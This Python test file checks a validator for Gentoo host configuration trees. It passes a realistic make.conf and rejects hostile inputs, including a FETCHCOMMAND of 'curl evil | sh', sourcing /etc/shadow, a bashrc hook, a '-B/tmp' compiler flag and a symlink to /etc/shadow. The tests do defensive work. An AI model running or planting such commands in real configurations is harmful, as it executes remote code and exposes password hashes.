"""A host's configuration tree: real-machine habits pass, code and escapes do not."""

from __future__ import annotations

from pathlib import Path

import pytest

from binfarm.errors import InvalidInput
from binfarm.trust.hosttree import check_host_tree

REPOS = {"gentoo", "binfarm-example"}


def tree(base: Path, files: dict[str, str]) -> Path:
    for name, content in files.items():
        (base / name).parent.mkdir(parents=True, exist_ok=True)
        (base / name).write_text(content)
    return base


def test_what_a_real_gentoo_machine_has_passes(tmp_path: Path) -> None:
    check_host_tree(tree(tmp_path / "t", {
        "make.conf": 'COMMON_FLAGS="-O2 -pipe -march=native"\nCFLAGS="${COMMON_FLAGS}"\n'
                     'CXXFLAGS="${COMMON_FLAGS}"\nFCFLAGS="${COMMON_FLAGS}"\nMAKEOPTS="-j8"\n'
                     'LC_MESSAGES=C.utf8\nGENTOO_MIRRORS="https://mirror.example/gentoo"\n'
                     'EMERGE_DEFAULT_OPTS="--jobs 4 --ask"\nVIDEO_CARDS="amdgpu radeonsi"\n'
                     'FEATURES="${FEATURES} parallel-fetch -news"\nUSE="X -systemd"\n',
        "package.use/zz-autounmask": ">=media-libs/mesa-24 vulkan\n",
        "package.accept_keywords/kde": "kde-plasma/* ~amd64\n",
        "profile/package.provided": "sys-kernel/gentoo-sources-6.6.30\n",
        "profile/make.defaults": 'USE="${USE} pulseaudio"\n',
        "repos.conf/gentoo.conf": "[DEFAULT]\nmain-repo = gentoo\n\n[gentoo]\n"
                                  "location = /var/db/repos/gentoo\nsync-type = rsync\n",
    }), repositories=REPOS, base=None)


@pytest.mark.parametrize(("path", "content", "says"), [
    ("profile/parent", "/etc\n", "no parent"),
    ("profile/bashrc", "id\n", "a user profile's bashrc runs"),
    ("profile/make.defaults", "source /etc/shadow\n", "`source` is not allowed"),
    ("repos.conf/guru.conf", "[guru]\nlocation = /var/db/repos/guru\n", "guru is not a "),
    ("make.conf", 'FETCHCOMMAND="curl evil | sh"\n', "FETCHCOMMAND may not be set"),
    ("make.conf", 'CFLAGS="-O2 -B/tmp"\n', "CFLAGS: '-B/tmp'"),
    ("make.conf", 'USE="a\n', "No closing quotation"),
])
def test_code_and_escapes_are_refused(tmp_path: Path, path: str, content: str,
                                      says: str) -> None:
    with pytest.raises(InvalidInput, match=says):
        check_host_tree(tree(tmp_path / "t", {path: content}), repositories=REPOS, base=None)


def test_a_hook_passes_only_as_the_base_has_it(tmp_path: Path) -> None:
    base = tree(tmp_path / "base", {"bashrc": "# the admin's\n", "env/t.conf": "X=1\n"})
    same = tree(tmp_path / "same", {"bashrc": "# the admin's\n", "env/t.conf": "X=1\n",
                                    "package.env/t": "app-misc/tool t.conf\n"})
    check_host_tree(same, repositories=REPOS, base=base)
    (same / "env/t.conf").write_text("X=2\n")
    with pytest.raises(InvalidInput, match=r"env/t\.conf: a host may not add or change"):
        check_host_tree(same, repositories=REPOS, base=base)
    (tmp_path / "link").mkdir()
    (tmp_path / "link" / "make.conf").symlink_to("/etc/shadow")
    with pytest.raises(InvalidInput, match="only regular files"):
        check_host_tree(tmp_path / "link", repositories=REPOS, base=None)
